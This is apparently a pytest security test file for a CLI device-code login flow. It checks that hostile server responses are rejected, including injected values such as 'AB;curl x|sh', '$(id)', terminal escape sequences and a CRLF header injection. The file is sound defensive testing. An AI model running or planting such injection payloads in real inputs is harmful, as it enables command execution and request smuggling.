"""A deployment that is none answers `login --deployment`: nothing of it is shown as a command, or kept as a key."""

from __future__ import annotations

from typing import Any

import pytest

from service_nb.core.secret import Secret
from service_nb.deployment.address import Address
from service_nb.deployment.enrolment import request_key
from service_nb.deployment.http import DeploymentClient
from service_nb.errors import DeploymentUnavailableError
from tests.security.test_hostile_warehouses import answering

CODES = {"device_code": "d", "verification_uri": "https://x", "expires_in": 60, "interval": 1}
KEY = {"access_token": "snb_0123456789", "token_type": "Bearer", "scope": ""}


def asked(codes: dict[str, Any], key: dict[str, Any]) -> tuple[Secret, list[str]]:
    told: list[str] = []

    def answer(path: str, _: bytes) -> Any:
        return codes if path.endswith("code") else key

    with answering(answer) as (port, _):
        deployment = DeploymentClient(Address(base=f"http://127.0.0.1:{port}"))
        try:
            found = request_key(deployment, lambda each: told.append(each.user_code), rest=lambda _: None)
        finally:
            deployment.close()
            assert all("\x1b" not in each and ";" not in each for each in told)
    return found, told


@pytest.mark.parametrize(
    "code", ["AB;curl x|sh", "\x1b[2J", "$(id)", "ABCD EFGH", "", "--deny", "A" * 1_000, "abcd\nefgh"]
)
def test_a_code_that_is_none_is_not_shown(code: str) -> None:
    with pytest.raises(DeploymentUnavailableError):
        asked({**CODES, "user_code": code}, KEY)


@pytest.mark.parametrize("key", ["a\r\nX-Evil: 1", "", "é" * 20, "x" * 10_000, "snb_ 123456789"])
def test_a_key_that_is_none_is_not_kept(key: str) -> None:
    with pytest.raises(DeploymentUnavailableError):
        asked({**CODES, "user_code": "WDJB-MJHT"}, {**KEY, "access_token": key})


def test_a_code_is_shown_and_a_key_is_kept() -> None:
    found, told = asked({**CODES, "user_code": "WDJB-MJHT"}, KEY)
    assert (found.reveal(), told) == (KEY["access_token"], ["WDJB-MJHT"])
